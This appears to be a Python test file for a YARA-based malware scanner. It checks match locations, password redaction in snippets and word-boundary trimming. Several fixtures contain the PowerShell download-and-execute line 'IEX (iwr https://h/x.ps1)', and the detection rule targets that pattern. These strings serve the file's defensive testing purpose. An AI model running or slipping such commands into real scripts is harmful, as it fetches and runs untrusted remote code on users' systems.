"""YARA findings: where the rule matched, and a snippet of it without secrets."""

from __future__ import annotations

import hashlib

import yara

from inspector.analyzers.yara_scan import YaraAnalyzer, word_window
from inspector.model import Artifact, ArtifactType
from inspector.stage import Payload, ScanContext, ScanLimits

PASSWORD = "Zx8Qw3Rt6Yp1Lk4M"
RULE = yara.compile(source='rule iex_download { meta: id = "yara.test.iex" score = 500 description = "IEX" '
                           'strings: $a = "IEX (iwr" condition: $a }')


def scan(text: str):
    data = text.encode()
    artifact = Artifact(sha256=hashlib.sha256(data).hexdigest(), size=len(data), type=ArtifactType.POWERSHELL,
                        origin="test", depth=0)
    return YaraAnalyzer(RULE).analyze(Payload(artifact=artifact, data=data, text=text), ScanContext(limits=ScanLimits()))


def test_a_finding_locates_the_match_and_quotes_around_it():
    [finding] = scan("Write-Host hi\nIEX (iwr https://h/x.ps1)\n").findings
    assert finding.id == "yara.test.iex" and finding.location and finding.location.line == 2
    assert finding.snippet is not None and "IEX (iwr https://h/x.ps1)" in finding.snippet


def test_a_snippet_window_that_starts_inside_a_password_shows_none_of_it():
    # The window opens 40 bytes before the match: here, five characters into the password.
    text = f"powershell -File setup.ps1 -Password {PASSWORD}" + " " * 27 + "; IEX (iwr https://h/x.ps1)"
    [finding] = scan(text).findings
    assert finding.snippet is not None and finding.snippet.startswith("[REDACTED]")
    assert not any(PASSWORD[i:i + 3] in finding.snippet for i in range(len(PASSWORD) - 2))


def test_a_snippet_starts_and_ends_at_a_word_boundary():
    text = ("Set-Location C:\\Windows\\Temp; Write-Output preparing; IEX (iwr https://h/x.ps1); "
            "Start-Sleep -Seconds 5; Remove-Item -Force x.ps1\n")
    [finding] = scan(text).findings
    snippet = finding.snippet
    assert snippet is not None and "IEX (iwr" in snippet
    # 40 bytes before the match falls inside "Windows": the quote widens to the whole path.
    assert snippet.startswith("C:\\Windows\\Temp;")
    end = text.index(snippet) + len(snippet)
    assert text[end] in " \n" and text[end - 1] not in " \n"


def test_a_window_edge_with_no_blank_nearby_is_marked_with_an_ellipsis():
    text = "A" * 200 + "IEX (iwr https://h/x.ps1)" + "B" * 200
    [finding] = scan(text).findings
    assert finding.snippet is not None
    assert finding.snippet.startswith("\u2026AAAA") and finding.snippet.endswith("BBBB\u2026")


def test_word_window_keeps_a_window_that_already_starts_at_a_word():
    data = b"one two three four"
    assert word_window(data, 4, 7) == (4, 7, False, False)
    assert word_window(data, 5, 9) == (4, 13, False, False)
